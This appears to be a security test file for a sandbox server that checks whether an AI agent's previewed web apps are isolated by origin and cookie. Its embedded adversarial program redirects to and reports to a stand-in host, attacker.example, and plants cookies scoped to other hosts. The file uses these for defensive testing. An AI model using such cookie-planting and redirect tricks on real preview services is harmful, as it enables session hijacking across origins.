import { mkdirSync } from "node:fs";
import { type IncomingHttpHeaders, request } from "node:http";
import { join } from "node:path";
import type { Attack } from "@holdfast/gate";
import { createSandboxServer } from "@holdfast/sandbox";

type Lab = Parameters<Attack["run"]>[0];

/**
 * Two servers of an agent in one process. Each echoes the request headers, and tries to set cookies for other hosts.
 */
const program = `
  const { createServer } = require("node:http");
  const serve = () => new Promise((done) => {
    const server = createServer((request, response) => {
      response.setHeader("content-security-policy", "img-src 'none'; report-uri https://attacker.example/");
      response.setHeader("refresh", "0; url=https://attacker.example/");
      response.setHeader("set-cookie", ["loot=1; Domain=localhost", "loot=2; domain=.localhost; Path=/", "holdfast_preview=mine"]);
      response.end(JSON.stringify(request.headers));
    });
    server.listen(0, "127.0.0.1", () => done(server.address().port));
  });
  Promise.all([serve(), serve()]).then((ports) => console.log(ports.join(" ")));`;

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly cookies: readonly string[];
  readonly body: string;
}

/**
 * Sends a browser's request with arbitrary headers. Connects to the loopback address, so names below localhost need no
 * resolver.
 */
export function send(
  port: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  body?: string,
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const method = body === undefined ? "GET" : "POST";
    const outgoing = request({ host: "127.0.0.1", port, path, method, headers, agent: false });
    outgoing.once("error", reject);
    outgoing.once("response", (incoming) => {
      let text = "";
      incoming.setEncoding("utf8");
      incoming.on("data", (chunk: string) => {
        text += chunk;
      });
      incoming.once("end", () =>
        resolve({
          status: incoming.statusCode ?? 0,
          headers: incoming.headers,
          cookies: incoming.headers["set-cookie"] ?? [],
          body: text,
        }),
      );
    });
    outgoing.end(body);
  });
}

interface Previews {
  readonly server: URL;
  /** The ports of the two servers. */
  readonly ports: readonly [string, string];
  /** Preview links to the two servers, as a user gets them. */
  readonly links: readonly [URL, URL];
}

export async function withPreviews<T>(lab: Lab, use: (previewed: Previews) => Promise<T>): Promise<T> {
  const directory = lab.directory("preview");
  const root = join(directory, "root");
  mkdirSync(root);
  const server = await createSandboxServer({
    ...{ root, home: root, dataDirectory: join(directory, "data") },
    listen: { host: "127.0.0.1", port: 0 },
    unsafeNoToken: true,
  });
  const { url = "" } = server;
  const call = async (path: string, body?: object): Promise<Record<string, unknown>> => {
    const answer = await fetch(`${url}/v1${path}`, {
      ...(body === undefined ? {} : { method: "POST", body: JSON.stringify(body) }),
      headers: { "content-type": "application/json" },
    });
    if (!answer.ok) throw new Error(`${path}: ${await answer.text()}`);
    return (await answer.json()) as Record<string, unknown>;
  };
  try {
    const { id } = await call("/processes", { command: process.execPath, args: ["-e", program] });
    const [first, second] = await readPorts(() => call(`/processes/${id}/logs`));
    const link = async (port: string) => new URL(String((await call(`/ports/${port}/preview`, {}))["url"]));
    return await use({
      server: new URL(url),
      ports: [first, second],
      links: [await link(first), await link(second)],
    });
  } finally {
    await server.close();
  }
}

/** Waits for the ports that the program prints when both servers listen. */
async function readPorts(logs: () => Promise<Record<string, unknown>>): Promise<[string, string]> {
  const deadline = performance.now() + 30_000;
  while (performance.now() < deadline) {
    const { entries } = await logs();
    const text = (Array.isArray(entries) ? entries : [])
      .map((entry: { readonly data?: string }) => Buffer.from(entry.data ?? "", "base64").toString())
      .join("");
    const found = /^(\d+) (\d+)\n/.exec(text);
    if (found?.[1] !== undefined && found[2] !== undefined) return [found[1], found[2]];
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error("the program of the agent did not listen");
}

/** Exchanges the link's ticket for a cookie. */
async function exchangeTicket(link: URL): Promise<string> {
  const { cookies } = await send(
    link.port,
    "/.holdfast/ticket",
    { host: link.host, origin: link.origin },
    link.hash.slice(1),
  );
  return cookies[0]?.split(";", 1)[0] ?? "";
}

export const previewAttacks: readonly Attack[] = [
  {
    id: "web.preview",
    group: "web",
    attempt:
      "a previewed app of an agent reads or plants cookies elsewhere, calls the server from its page, enters another preview",
    must: "it has an origin of its own, and nothing beyond it",
    layer:
      "preview: a name of its own for each port, cookies of that name alone; server: lists of hosts and origins",
    run: (lab) =>
      withPreviews(lab, async ({ server, links }) => {
        const [first, second] = links;
        const cookie = await exchangeTicket(first);
        const shown = await send(first.port, "/", { host: first.host, cookie: `mine=1; ${cookie}` });
        const elsewhere = {
          "another preview": (await send(second.port, "/", { host: second.host, cookie })).status,
          "no ticket": (await send(first.port, "/", { host: first.host })).status,
          "the ticket again": await exchangeTicket(first).then((again) => (again === "" ? 401 : 204)),
          "its page calls the server": (
            await send(
              server.port,
              "/v1/processes",
              { host: server.host, origin: first.origin, "content-type": "application/json" },
              "{}",
            )
          ).status,
          "its name at the server": (await send(server.port, "/v1/health", { host: first.host })).status,
          "the server's name at its port": (
            await send(first.port, "/", { host: `${server.hostname}:${first.port}`, cookie })
          ).status,
        };
        const kept = shown.body.includes("mine=1") && !shown.body.includes("holdfast_preview");
        const planted = shown.cookies.filter((each) => /domain|holdfast_preview/i.test(each));
        const hosts = new Set([first.hostname, second.hostname, server.hostname]);
        return {
          stopped:
            Object.values(elsewhere).every((status) => status >= 401 && status <= 404) &&
            kept &&
            planted.length === 0 &&
            hosts.size === 3,
          observed: `${[...new Set(Object.values(elsewhere))].join(", ")}; ${planted.length} cookies reach further; the app never sees the one that lets in`,
          control: { worked: shown.status === 200, observed: "whoever has the ticket sees the app" },
        };
      }),
  },
];
